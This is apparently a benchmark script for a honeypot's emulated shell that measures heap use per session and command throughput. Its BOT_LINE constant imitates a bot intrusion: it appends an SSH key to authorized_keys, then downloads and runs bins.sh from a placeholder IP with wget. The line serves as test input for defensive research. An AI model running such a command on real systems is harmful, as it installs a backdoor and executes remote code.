// Emulated shell cost: heap per open session (each ran a typical bot line) and lines per second.
// Sessions: HONEYSCOPE_BENCH_SHELL_SESSIONS (default 500); lines: HONEYSCOPE_BENCH_SHELL_LINES (default 2000).
// Run with `node --expose-gc` for exact heap figures; without it the figures include garbage.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ShellSession } from '../src/sensor/shell/shell-session.js';
import { createTestShellHost } from '../src/sensor/shell/test-shell-host.js';

const BOT_LINE =
  'cd /tmp || cd /var/run; uname -a; cat /proc/cpuinfo | grep name | head -n 1; free -m | grep Mem; ls -lh $(which ls); ' +
  'echo "ssh-rsa AAAA bot" >> ~/.ssh/authorized_keys; wget http://198.51.100.7/bins.sh; chmod +x bins.sh; ./bins.sh';

function envInt(name: string, fallback: number): number {
  const value = Number(process.env[name] ?? fallback);
  return Number.isInteger(value) && value > 0 ? value : fallback;
}

function heap(): number {
  (globalThis as { gc?: () => void }).gc?.();
  return process.memoryUsage().heapUsed;
}

export async function run(): Promise<Record<string, unknown>> {
  const sessions = envInt('HONEYSCOPE_BENCH_SHELL_SESSIONS', 500);
  const lines = envInt('HONEYSCOPE_BENCH_SHELL_LINES', 2000);
  const dataDir = await mkdtemp(join(tmpdir(), 'honeyscope-bench-shell-'));
  try {
    const before = heap();
    const open: ShellSession[] = [];
    for (let i = 0; i < sessions; i++) {
      const host = createTestShellHost({ dataDir });
      const session = new ShellSession(host, { pty: false });
      await session.exec(BOT_LINE);
      host.events.length = 0;
      open.push(session);
    }
    const perSession = (heap() - before) / sessions;

    const host = createTestShellHost({ dataDir });
    const started = performance.now();
    for (let i = 0; i < lines; i++) await new ShellSession(host, { pty: false }).exec(BOT_LINE);
    const seconds = (performance.now() - started) / 1000;
    return {
      sessions,
      heapPerSessionKiB: Math.round(perSession / 102.4) / 10,
      heapTotalMiB: Math.round((perSession * sessions) / 104857.6) / 10,
      gcExposed: typeof (globalThis as { gc?: unknown }).gc === 'function',
      lines,
      linesPerSecond: Math.round(lines / seconds),
      keptSessions: open.length,
    };
  } finally {
    await rm(dataDir, { recursive: true, force: true });
  }
}
